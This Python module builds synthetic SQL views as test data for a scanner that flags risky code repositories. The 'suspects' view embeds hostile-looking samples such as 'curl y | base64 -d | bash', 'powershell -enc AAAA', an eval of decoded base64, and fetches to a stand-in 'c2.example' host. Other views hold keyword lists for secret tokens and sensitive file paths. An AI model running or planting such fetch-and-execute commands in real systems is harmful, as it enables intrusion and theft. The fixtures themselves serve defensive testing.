"""Tables of the risk domain, derived from the driver's tables by SQL that Spark and DuckDB both run.

`{name}` stands for a driver table or for a view defined before. The same text makes the
input of a query and the common table expressions of its SQL twin.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession

VIEWS: dict[str, str] = {
    "brands": """
select * from (values
  (0, 'Automobile', 'automobile,auto mobile', 'automobile,owner3 apk,login kit', 'owner3,owner11', true),
  (1, 'Machinery', 'machinery,machine ry', 'machinery,wallet', 'owner5', true),
  (2, 'House Hold', 'household', 'household,verify', '', true),
  (3, 'Building', 'building,blding', 'building', 'owner8', false)
) t(brand_id, brand_name, aliases, keywords, trusted_owners, enabled)""",
    "keywords": """
select * from (values
  (1, 'Login', 'phishing', 5, true), (2, 'login', 'phishing', 9, true), (3, ' wallet ', 'phishing', 5, true),
  (4, 'stealer', 'malware', 7, true), (5, 'apk', 'malware', 5, true), (6, 'mod', 'malware', 5, false),
  (7, 'AKIA', 'secret', 8, true), (8, 'ghp_', 'secret', 8, true), (9, '', 'brand', 1, true), (10, 'Verify', 'phishing',
    5, true),
  (11, 'otp', 'phishing', 5, true), (12, 'payment', 'phishing', 2, true), (13, 'WALLET', 'phishing', 1, true)
) t(ord, keyword, category, priority, enabled)""",
    "repositories": """
select c.c_custkey as repo_id, 'ws' || cast(c.c_custkey % 3 as string) as workspace_id,
  'owner' || cast(c.c_nationkey + 25 * (c.c_custkey % 2) as string) as owner,
  'owner' || cast(c.c_nationkey + 25 * (c.c_custkey % 2) as string) || '/' || lower(c.c_mktsegment) || case c.c_custkey % 5
    when 0 then '-login' when 1 then '_clone' when 2 then 'App' when 3 then '-kit' else 'x' end as full_name,
  case when c.c_custkey % 6 = 0 then null
    else c.c_mktsegment || ' support and verification for customer ' || cast(c.c_custkey as string) end as description,
  case c.c_nationkey % 6 when 0 then 'Python' when 1 then 'Go' when 2 then 'python' when 3 then '' when 4 then null
    else 'TypeScript' end as language,
  cast(floor(abs(c.c_acctbal)) as bigint) % 1500 as stars, cast(c.c_custkey % 60 as bigint) as forks,
    c.c_custkey % 7 = 0 as is_fork,
  case when c.c_custkey % 11 = 0 then 'internal' when c.c_custkey % 13 = 0 then null else 'external' end as origin,
  c.c_custkey % 4 = 0 as pending_analysis, case when c.c_custkey % 5 = 0 then null
    else 'https://site' || cast(c.c_custkey as string) || '.example' end as homepage,
  c.c_nationkey % 4 as brand_id, cast(floor(c.c_acctbal) as bigint) % 40 as followers, e.ts as created_at,
    p.ts as pushed_at,
  case when c.c_custkey % 17 = 0 then null else 'sha' || cast(c.c_custkey % 97 as string) end as commit_sha
from {customer} c left join {events} e on e.event_id = c.c_custkey left
  join {events} p on p.event_id = c.c_custkey * 5""",
    # repositories with what every rule looks for in some of them: brand_id may be null, paths are joined by commas
    "suspects": """
select r.repo_id, r.owner, r.full_name, case when r.repo_id % 10 = 9 then null else r.brand_id end as brand_id,
  r.description,
  case when r.repo_id % 20 = 5 then 900 else r.stars % 6 end as stars, r.forks % 3 as forks, r.is_fork, r.created_at,
  case r.repo_id % 4 when 0 then r.created_at when 1 then r.created_at - interval '3000' day end as owner_created_at,
  case r.repo_id % 3 when 0 then 0 when 1 then 7 end as followers,
  case r.repo_id % 5 when 0 then null when 1 then 1 else 4 end as public_repos,
  case when r.repo_id % 7 < 4 then coalesce(b.brand_name, 'Nobody') || ' tools' else 'Some tools' end || chr(10) ||
    case r.repo_id % 13 when 0 then 'phishing kit for ' || lower(coalesce(b.brand_name, 'all'))
      when 1 then 'go to the login page' when 2 then 'a stealer and keylogger in one'
      when 3 then 'obfuscated loader, malware inside' when 4
        then 'crack with payload' || chr(10) || 'powershell -enc AAAA'
      when 5 then 'otp bypass, 2fa bypass and fake login' when 6 then 'apktool and smali for a mod apk'
      when 7 then lower(coalesce(b.brand_name, 'any')) || ' support'
      when 8 then 'Free ' || coalesce(b.brand_name, 'any') || ' wallet login and kyc, free money'
      when 9 then 'verify account on the login page' when 10 then lower(coalesce(b.brand_name, 'any')) || ' clone'
      when 11 then 'a Login Kit, see owner3 APK' when 12 then 'myWallet and LoginKit' end || chr(10) || coalesce(d.text,
        '') as readme_text,
  case r.repo_id % 9 when 0 then 'app/release.apk,vercel.json' when 1 then 'run.ps1,src/Procfile'
    when 2 then 'README.md,src/machinery-wallet.py' when 3 then 'a/netlify.toml,b/fly.toml,c/vercel.json'
      else 'README.md' end as paths,
  case r.repo_id % 11 when 0 then 'x' || chr(10) || 'curl y | base64 -d | bash' when 1 then 'eval( atob("aGk="))'
    when 2 then '<form method="post" action="https://Evil' || cast(r.repo_id % 50 as string) || '.example/a">'
    when 3 then 'fetch("https://cdn.jsdelivr.net/x"); fetch(''/relative'')'
    when 4 then 'axios.post(''https://api.machinery.com/x''); webhook_url = "https://hook.example/1"'
    when 5 then 'a' || chr(10) || 'b' || chr(10) || 'powershell -enc AAAA; fetch(''https://c2.example/b'') fetch(''https://c2.example/c'')'
    when 6 then 'the ' || coalesce(b.brand_name, 'any') || ' payment and trading app' end as code
from {repositories} r left join {brands} b on b.brand_id = r.brand_id and r.repo_id % 10 <> 9 left
  join {documents} d on d.doc_id = r.repo_id""",
    "findings": """
select o.o_orderkey as finding_id, o.o_custkey as repo_id, 'ws' || cast(o.o_custkey % 3 as string) as workspace_id,
  case o.o_orderpriority when '1-URGENT' then 'critical' when '2-HIGH' then 'high' when '3-MEDIUM' then 'medium'
    else 'low' end as severity,
  case when o.o_orderstatus = 'F' then 'open' when o.o_orderstatus = 'O' and o.o_orderkey % 3 = 0 then 'false_positive'
    when o.o_orderstatus = 'O' then 'resolved' when o.o_orderkey % 9 = 0 then null else 'acknowledged' end as status,
  case o.o_orderkey % 5 when 0 then 'none' when 1 then 'watchlist' when 2 then 'allowlist' when 3 then 'blocklist'
    else 'ignorelist' end as list_status,
  case when o.o_orderkey % 10 = 0 then 'internal' else 'external' end as origin, case when o.o_orderkey % 8 < 4
    then 'rules' when o.o_orderkey % 8 < 6 then 'ai' else null end as scoring_source,
  cast(floor(o.o_totalprice) as bigint) % 101 as risk_score, o.o_orderdate as created_at,
    o.o_orderkey % 6 = 0 as needs_deep_review,
  case o.o_orderkey % 4 when 0 then 'Automobile' when 1 then 'Machinery' when 2 then 'House Hold'
    else '' end as brand_name,
  'summary of ' || lower(o.o_orderpriority) || ' order ' || cast(o.o_orderkey as string) as summary,
  case o.o_orderkey % 7 when 0 then 'phishing' when 1 then 'exposed_secret' when 2 then 'malware,phishing' when 3
    then 'credential_reuse,fake_apk'
    when 4 then 'suspicious_repo' when 5 then ''
      else 'exposed_secret,suspicious_repo,brand_impersonation' end as categories,
  case when o.o_orderkey % 4 = 1 then 'reopened' when o.o_orderkey % 4 = 2 then 'new'
    else 'unchanged' end as last_change_type
from {orders} o""",
    "detections": """
select l_orderkey as finding_id, cast(l_linenumber as bigint) * 1000000 + l_partkey * 100 + l_suppkey % 100 as ord,
  'rule-' || cast(l_suppkey % 7 as string) as rule_id,
  'Rule ' || cast(l_suppkey % 7 as string) as rule_name,
  case l_suppkey % 7 when 0 then 'phishing' when 1 then 'exposed_secret' when 2 then 'malware' when 3 then 'fake_apk'
    when 4 then 'suspicious_repo'
    when 5 then 'credential_reuse' else 'brand_impersonation' end as category,
  cast(l_quantity as double) / 50.0 as confidence, cast(l_partkey % 40 as double) as risk_contribution,
  case l_linenumber % 4 when 0 then 'critical' when 1 then 'high' when 2 then 'medium' else 'low' end as severity
from {lineitem}""",
    "identities": """
select c_custkey as repo_id, 'ws' || cast(c_custkey % 3 as string) as workspace_id,
  'owner' || cast(c_nationkey + 25 * (c_custkey % 2) as string) as owner,
  case c_custkey % 3 when 0 then 'email' when 1 then 'telegram' else 'crypto_wallet' end as kind,
    'id' || cast(c_custkey % 199 as string) as value
from {customer}""",
    "contributors": """
select distinct o_custkey as repo_id, 'user' || cast(o_orderkey % 211 as string) as login,
  cast(o_orderkey % 40 as bigint) as contributions
from {orders} where o_orderkey % 3 = 0""",
    "assessments": """
select o_orderkey as assessment_id, o_custkey as repo_id, case when o_orderkey % 2 = 0 then 'first'
  else 'deep' end as tier,
  case o_orderstatus when 'F' then 'completed' when 'O' then 'failed' else 'pending' end as status,
  case o_orderkey % 3 when 0 then 'alpha' when 1 then 'beta' else 'gamma' end as provider,
    'ctx' || cast(o_custkey % 50 as string) as context_hash,
  case o_orderkey % 4 when 0 then 'malicious' when 1 then 'benign' when 2 then 'inconclusive'
    else 'suspicious' end as intent,
  cast(o_orderkey % 100 as double) / 100.0 as confidence, o_orderdate as created_at
from {orders}""",
    # paths of many shapes, of which rules about folders, names and endings each hold for some
    "tree": """
select p_partkey as ord, case p_partkey % 9 when 0 then '' when 1 then 'src/' when 2 then 'config/' when 3
  then 'node_modules/x/'
    when 4 then 'docs/' when 5 then 'templates/' when 6 then '.github/workflows/' when 7 then 'locales/de/'
      else 'a/Build/build/' end ||
  case p_size % 12 when 0 then 'README' when 1 then '.env' when 2 then 'credentials' when 3 then 'server' when 4
    then 'id_rsa'
    when 5 then 'package' when 6 then 'Dockerfile' when 7 then 'machinery_api' when 8 then 'LICENSE' when 9 then 'terms'
    when 10 then 'config' else replace(p_name, ' ', '_') end ||
  case p_partkey % 11 when 0 then '' when 1 then '.json' when 2 then '.md' when 3 then '.pem' when 4 then '.tfvars'
    when 5 then '.py'
    when 6 then '.yml' when 7 then '.local' when 8 then '.TXT' when 9 then '.hbs' else '.png' end as path
from {part}""",
    # answers of a model: plain, fenced, within a sentence and without JSON, in and out of bounds
    "answers": """
select p_partkey as answer_id, p_name, p_size, case p_partkey % 4 when 0 then json when 1
  then 'Sure:' || chr(10) || '```json' || chr(10) || json || chr(10) || '```'
  when 2 then 'so ' || json || ' ok' else p_name end as text
from (select p_partkey, p_name, p_size,
  chr(123) || '"intent": "' || case p_size % 5 when 0 then 'malicious' when 1 then 'suspicious' when 2 then 'benign'
    when 3 then 'inconclusive'
      else 'evil' end || '", "riskScore": ' || cast(p_size * 5 - 30 as string) || ', "confidence": ' ||
  case when p_size % 3 = 0 then cast(p_size % 4 - 1 as string)
    else '0.' || cast(p_size % 10 as string) end || ', "reasoning": " ' ||
  case when p_size % 7 = 0 then '' else p_name end || ' "' || chr(125) as json from {part}) x""",
    "paths": """
select p_partkey as ord, case p_partkey % 24 when 0 then '.env' when 1 then 'conf/.env.local' when 2
  then 'keys/server.pem' when 3 then 'a/id_rsa'
  when 4 then 'config/credentials.json' when 5 then 'firebase.json' when 6 then 'src/passwords.py' when 7 then '.npmrc'
    when 8 then 'src/machinery_client.py'
  when 9 then 'docker-compose.yml' when 10 then 'prod.tfvars' when 11 then 'Dockerfile.dev' when 12 then 'config.json'
    when 13 then '.github/workflows/ci.yml'
  when 14 then 'README.md' when 15 then 'locales/en.json' when 16 then 'src/main.ts' when 17
    then 'node_modules/x/index.js' when 18 then 'templates/mail.hbs'
  when 19 then 'terms.html' when 20 then 'docs/guide.md' when 21 then 'LICENSE' when 22 then 'assets/logo.svg'
    else 'i18n/strings.po' end || case when p_partkey < 24 then '' else '' end as path,
  p_partkey % 24 as kind
from {part}""",
}


def _needed(names: list[str]) -> list[str]:
    out: list[str] = []
    for name in names:
        for inner in re.findall(r"\{(\w+)\}", VIEWS.get(name, "")):
            out += [x for x in _needed([inner]) if x not in out]
        if name not in out:
            out.append(name)
    return out


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A view of VIEWS over the driver's tables, or a driver table."""
    if name not in VIEWS:
        return spark.read.parquet(f"{sf_dir}/{name}.parquet")
    inner = {n: table(spark, sf_dir, n) for n in re.findall(r"\{(\w+)\}", VIEWS[name])}
    return spark.sql(VIEWS[name], **inner)


def twin(sql: str) -> str:
    """sql with the views that it names in braces as common table expressions before it."""
    names = [n for n in _needed(re.findall(r"\{(\w+)\}", sql)) if n in VIEWS]
    bare = lambda s: re.sub(r"\{(\w+)\}", r"\1", s)
    heads = ",\n".join(f"{n} as ({bare(VIEWS[n]).strip()})" for n in names)
    body = bare(sql).strip()
    if not heads:
        return body
    if body.lower().startswith("with recursive "):
        return f"with recursive {heads},\n{body[15:]}"
    if body.lower().startswith("with "):
        return f"with {heads},\n{body[5:]}"
    return f"with {heads}\n{body}"
